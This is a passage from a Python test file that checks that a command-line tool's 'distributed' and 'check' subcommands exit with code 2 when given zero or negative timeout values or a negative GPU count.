        """`distributed --timeout` <= 0: exit 2 before anything starts."""
        return ["distributed", "--python", ctx.py, "--timeout", _value]


for _value in ("0", "-1"):

    @case(f"smoke-timeout-{_value}", "usage", exits=(2,))
    def _(ctx, _value=_value):
        """`check --smoke-timeout` <= 0: exit 2."""
        return ["check", "--python", ctx.py, "--smoke-timeout", _value]


@case("min-gpus-negative", "usage", exits=(2,))
def _(ctx):
    """`check --min-gpus -1`: exit 2."""
    return check(ctx, "--min-gpus", "-1")


del _value, _n, _fmt
